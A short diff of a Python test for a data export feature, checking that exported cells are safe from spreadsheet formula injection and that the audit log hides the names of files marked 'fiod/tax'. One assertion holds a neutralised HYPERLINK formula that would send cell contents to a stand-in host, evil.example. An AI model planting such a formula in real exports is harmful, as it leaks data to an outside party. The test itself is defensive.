@@ -381,7 +381,8 @@ def test_exports_are_marked_private_and_injection_safe(hostile: Path, tmp_path: 
         assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\") kwaad" in cells
         assert "Jan\\x07de\\x1bVries kwaad" in cells
     entries = _export_entries(hostile)
-    assert entries[-1]["target"] == str(out) and entries[-1]["marking"] == "fiod/tax"
+    # the log is readable with the `open` key: the name of a file marked fiod/tax is kept as its length
+    assert entries[-1]["target"] == f"<{len(str(out))} characters, fiod/tax>" and entries[-1]["marking"] == "fiod/tax"
 
 
 def test_a_viewer_export_writes_nothing_and_is_not_audited_as_done(project: Path, tmp_path: Path,
